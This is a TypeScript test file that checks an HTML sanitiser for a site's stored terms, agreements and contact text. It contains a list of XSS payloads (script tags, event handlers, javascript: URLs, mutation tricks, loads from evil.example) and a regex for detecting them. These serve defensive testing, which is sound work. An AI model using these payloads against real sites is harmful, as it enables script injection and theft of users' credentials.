import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { AGREEMENTS, CONDITIONS, CONTACT, TRANSLATIONS } from '../../../seed/texts.ts'
import { createFrontModules, type FrontModules } from '../../../test/front-modules.ts'
import { cleanHtml } from './clean-html.ts'
import { readSetting, writeSetting } from './index.ts'

/** Whatever a browser might run, load or let cover the page. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/a.png" onload="alert(1)" onerror=alert`1`>',
  '<img/src=`x`onerror=alert(1)>',
  '<svg onload=alert(1)><animate onbegin=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>',
  '<xmp><p title="</xmp><img src onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="//evil.example">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://good.example" onclick="alert(1)" style="position:fixed;inset:0" target="_top" ping="//evil.example">x</a>',
  '<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<style>@import "//evil.example/x.css";body{display:none}</style>',
  '<link rel=stylesheet href="//evil.example/x.css"><meta http-equiv=refresh content="0;url=//evil.example"><base href="//evil.example">',
  '<p style="background:url(//evil.example)" class="fixed inset-0" id="root" data-testid="total-balance">x</p>',
  '<img src="//evil.example/x.png"><img src="/\\evil.example/x.png"><img src="https://evil.example/x.png">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>"><img srcset="//evil.example/x.png 2x">',
  '<video src="//evil.example" autoplay></video><audio src=x onerror=alert(1)></audio>',
  '<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p>never closed <img src="x" onerror="alert(1)"',
]

const DANGEROUS =
  /<\/?(script|style|iframe|object|embed|form|input|button|textarea|link|meta|base|svg|math|video|audio|template|noscript|xmp|details|marquee)\b|\son\w+\s*=|\s(style|class|id|srcset|target|ping|formaction)\s*=|(href|src)="?\s*(javascript|vbscript|data:text|data:image\/svg|\/\/|\/\\|https:\/\/evil)/i

/** The tags alone: what stands between them is read, whatever it says. */
const tagsOf = (html: string) => html.match(/<[^>]*>?/g)?.join('') ?? ''

describe('[COND-02] HTML that is saved', () => {
  test.each(HOSTILE)('holds nothing that runs, loads or covers: %s', (html) => {
    const clean = cleanHtml(`<p>before</p>${html}`)
    expect(tagsOf(clean)).not.toMatch(DANGEROUS)
    expect(clean.startsWith('<p>before</p>')).toBe(true)
  })

  test('holds nothing of it however it is put together, nor when it is saved again', () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(fc.constantFrom(...HOSTILE), fc.string()), { maxLength: 5 }), fc.nat(40), (parts, cut) => {
        const clean = cleanHtml(parts.join('').slice(cut))
        expect(tagsOf(clean)).not.toMatch(DANGEROUS)
        expect(tagsOf(cleanHtml(clean))).not.toMatch(DANGEROUS)
      }),
      { numRuns: 300 },
    )
  })

  test('keeps what an operator writes, as it was written', () => {
    const texts = [
      ...CONDITIONS,
      ...AGREEMENTS,
      CONTACT.contactText,
      ...Object.values(TRANSLATIONS).flatMap((one) => [...one.conditions!, one.contactText!]),
    ]
    for (const text of texts) expect(cleanHtml(text)).toBe(text)
    const rich =
      '<h3>ก</h3><p>ข <a href="https://krapao.example/a?b=1&amp;c=2">ค</a> <a href="/howto">ง</a> <a href="tel:021234567">จ</a></p><img src="/art/a.png" alt="ฉ" width="10" /><table><tr><td colspan="2">ช</td></tr></table>'
    expect(cleanHtml(rich)).toBe(rich)
  })
})

describe('[COND-02] a setting with HTML', () => {
  let modules: FrontModules
  beforeAll(async () => {
    modules = await createFrontModules()
  })
  afterAll(() => modules.close())

  const BAD = '<p>ดี</p><img src=x onerror=alert(1)><script>alert(1)</script>'

  test('is saved clean, in every text and language', async () => {
    await writeSetting(modules.ownerDb, 'conditions', [BAD, BAD])
    await writeSetting(modules.ownerDb, 'agreements', [BAD])
    await writeSetting(modules.ownerDb, 'contact', { ...CONTACT, contactText: BAD })
    const bad = { contactText: BAD, conditions: [BAD], agreements: [BAD], notice: 'a < b' }
    await writeSetting(modules.ownerDb, 'translations', { la: bad, en: { agreements: [BAD] } })
    const rows = await modules.db.selectFrom('site.setting').selectAll().execute()
    expect(JSON.stringify(rows)).not.toMatch(DANGEROUS)
    expect(await readSetting(modules.db, 'conditions')).toEqual(['<p>ดี</p>', '<p>ดี</p>'])
    expect(await readSetting(modules.db, 'translations')).toEqual({
      la: { contactText: '<p>ดี</p>', conditions: ['<p>ดี</p>'], agreements: ['<p>ดี</p>'], notice: 'a < b' },
      en: { agreements: ['<p>ดี</p>'] },
    })
    expect(await readSetting(modules.db, 'contact')).toEqual({ ...CONTACT, contactText: '<p>ดี</p>' })
  })
})
